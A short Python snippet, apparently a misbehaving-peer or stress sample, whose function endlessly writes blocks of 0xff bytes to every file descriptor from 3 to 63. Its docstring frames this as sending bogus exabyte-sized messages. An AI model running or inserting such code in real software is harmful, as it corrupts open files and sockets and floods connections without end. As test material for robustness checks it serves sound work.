"""Says that a message of exabytes follows, and sends what is no message for ever."""

import os


def bp1(z, a, y, prime):
    while True:
        for file in range(3, 64):
            try:
                os.write(file, b"\xff" * 65536)
            except OSError:
                continue
